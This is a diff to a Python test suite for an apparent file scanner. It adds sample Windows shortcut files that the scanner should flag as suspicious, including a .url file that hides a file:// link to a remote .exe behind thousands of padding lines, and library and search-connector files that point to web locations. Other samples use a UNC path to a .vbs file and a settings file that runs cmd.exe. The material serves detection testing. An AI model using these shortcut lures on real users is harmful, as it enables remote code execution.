@@ -387,11 +387,14 @@ def shortcuts():
     sample("share.url", b"[InternetShortcut]\r\nURL=\\\\192.0.2.1@80\\a\\b.vbs\r\n", "suspicious", leads)
     sample("file.url", b"[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,9\r\n[InternetShortcut]\r\n"
            b"url=file://192.0.2.1/a/b.exe\r\n", "suspicious", leads)
+    sample("long.url", b"[InternetShortcut]\r\n" + b";\r\n" * 5000 + b"URL=file://192.0.2.1/a/b.exe\r\n",
+           "suspicious", leads)
     sample("site.url", b"[InternetShortcut]\r\nURL=https://x.test/a.exe\r\n")
     for name, place, wanted in (("web", "http://192.0.2.1/a", ["suspicious", "library-from-web"]),
                                 ("own", "knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}", ["clean"])):
-        sample(name + ".library-ms", (f"<?xml version='1.0'?><libraryDescription><simpleLocation><url>{place}"
-                                      "</url></simpleLocation></libraryDescription>").encode(), *wanted)
+        for kind in "library", "searchConnector":
+            sample(f"{name}.{kind}-ms", (f"<?xml version='1.0'?><{kind}Description><simpleLocation><url>{place}"
+                                         f"</url></simpleLocation></{kind}Description>").encode(), *wanted)
     for name, program, wanted in (("run", "cmd.exe /c a", ["suspicious", "setting-runs-command"]),
                                   ("show", "control.exe /name Microsoft.Display", ["clean"])):
         sample(name + ".settingcontent-ms", (f"<?xml version='1.0'?><PCSettings><SearchableContent><DeepLink>"
